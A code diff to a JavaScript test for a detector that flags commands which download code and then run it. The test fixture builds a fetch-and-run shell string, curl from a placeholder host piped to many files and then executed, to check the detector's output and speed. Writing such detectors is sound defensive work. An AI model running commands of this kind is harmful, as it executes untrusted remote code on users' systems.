@@ -81,7 +81,8 @@ describe("downloadExecution", () => {
     const targets = Array.from({ length: 10_000 }, (_, i) => `f${i}`).join(" ");
     const command = `curl -s https://x.test/a | tee ${targets}; ${"./a;".repeat(10_000)}`;
     const started = performance.now();
-    expect(downloadExecution(command, new Set())).toBeUndefined();
+    // It asks all the same: it records more downloads than one command records unasked.
+    expect(downloadExecution(command, new Set())).toMatch(/^this command would record 10000 downloads/);
     expect(downloadExecution(`${command} ./f9999`, new Set())).toBe(FETCH_AND_RUN);
     expect(performance.now() - started).toBeLessThan(3_000);
   });
